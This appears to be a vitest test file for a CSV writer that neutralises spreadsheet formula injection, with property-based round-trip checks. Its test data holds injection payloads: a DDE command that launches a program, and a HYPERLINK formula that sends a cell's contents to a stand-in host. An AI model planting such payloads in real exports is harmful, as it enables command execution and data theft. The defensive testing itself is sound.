import fc from 'fast-check';
import { expect, test } from 'vitest';
import { cellText, csvLine } from './csv.ts';
import { readCsv } from '../exporting/testing/read-back.ts';

test.each([
  ["=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"],
  ['=HYPERLINK("http://x.org/"&A1, "a")', `"'=HYPERLINK(""http://x.org/""&A1, ""a"")"`],
  ['+1+1', "'+1+1"],
  ['-ve in two trials', "'-ve in two trials"],
  ['-1+cmd|x', "'-1+cmd|x"],
  ['@SUM(1)', "'@SUM(1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', `"'\r=1"`],
  ['\n=1', `"'\n=1"`],
  ['＝1', "'＝1"],
  ['\u0000=1', "'\u0000=1"],
])('a spreadsheet does not run %j', (text, written) => {
  expect(csvLine([text])).toBe(`${written}\r\n`);
});

test('numbers stay numbers, with their sign', () => {
  expect(csvLine([-5, '-5', '+5', '-0.25', 12])).toBe('-5,-5,+5,-0.25,12\r\n');
});

test('a text that begins otherwise stays as it is', () => {
  expect(csvLine(['a=b', 'GB30', "'quoted'", '5-HT', 'x - y', '', null, false])).toBe(
    "a=b,GB30,'quoted',5-HT,x - y,,,false\r\n",
  );
});

test('every text is read back as it was, and none begins a formula', () => {
  const texts = fc
    .array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '1', '.5', 'a', '"', ',', ' '), {
      maxLength: 6,
    })
    .map((some) => some.join(''));
  fc.assert(
    fc.property(texts, (text) => {
      const line = csvLine([text, 'end']);
      const [cells] = readCsv(`a,b\r\n${line}`);
      expect(cells!['a']).toBe(text);
      if (!/^[+-]?[\d.]+$/.test(text)) expect(line).not.toMatch(/^"?[=+\-@\t\r\n]/);
    }),
    { numRuns: 2000, seed: 20261129 },
  );
});

test('a quote of the text itself is no quote of ours', () => {
  expect(["'=1", "'a", "''-1", 'a', "'"].map(cellText)).toEqual(['=1', "'a", "'-1", 'a', "'"]);
});
